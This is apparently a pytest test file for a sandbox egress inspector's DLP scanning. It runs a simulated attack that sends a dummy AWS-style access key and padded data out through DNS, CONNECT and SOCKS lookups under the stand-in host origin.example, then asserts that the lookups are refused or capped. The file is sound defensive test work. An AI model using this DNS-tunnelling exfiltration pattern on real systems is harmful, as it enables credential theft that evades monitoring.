"""Claim: where what is sent is scanned, the names that a cage asks for below a pattern carry 512 bytes a minute and no
credential, whichever door they are asked at.
"""

from __future__ import annotations

import pytest

from _support.internet import Host, Internet

from .network import attack

REFUSED = 5  # RFC 1035, 4.1.1
TOKEN = "AKIAABCD2345EFGH67JK"  # true to its form, and of nobody
MANY = """
    says("a credential", dns, TOKEN.lower().encode() + b"." + WORD + b".origin.example")
    for at in range(24):
        name = WORD + b"%02d" % at + b"word" * 9 + b".origin.example"
        if at % 3 == 0:
            says("dns %d" % at, dns, name)
        elif at % 3 == 1:
            says("connect %d" % at, connect, name, 443)
        else:
            says("socks %d" % at, socks, name, 443)
    says("one more", dns, WORD + b"ommore" + b".origin.example")
    says("spelled out", dns, b"origin.example")
"""
HOSTS = ("origin.example", "*.origin.example", "**.origin.example")


@pytest.fixture(scope="module", autouse=True)
def inspector(net_host: Host) -> None:
    """Starts it, and the host keeps it: it is no test's own."""
    attack(net_host, 'says("spelled out", dns, b"origin.example")', hosts=("origin.example",), dlp_enabled=True)


def asked(net: Internet, word: str) -> set[str]:
    return {each for each in net.questions() if word in each and each.endswith(".origin.example")}


def test_without_a_scan_all_are_asked(net_host: Host, net: Internet) -> None:
    """The control."""
    attack(net_host, MANY, names={"TOKEN": TOKEN, "WORD": b"free"}, hosts=HOSTS)

    assert len(asked(net, "free")) >= 24 and any(TOKEN.lower() in each for each in asked(net, "free"))


def test_with_one_they_are_bounded_at_every_door(net_host: Host, net: Internet) -> None:
    said = attack(net_host, MANY, names={"TOKEN": TOKEN, "WORD": b"held"}, hosts=HOSTS, dlp_enabled=True)

    names = asked(net, "held")
    assert names and sum(len(each) - len(".origin.example") for each in names) <= 512
    assert not any(TOKEN.lower() in each for each in names)
    assert said["a credential"][0] == REFUSED and said["dns 21"][0] == REFUSED and said["spelled out"][0] == 0
    told = said.answer.denials
    assert {"dlp.aws_access_key", "dlp.dns-budget"} <= {each["rule"] for each in told}
    assert TOKEN.lower() not in str(told) and TOKEN.lower() not in str(said.answer.events)
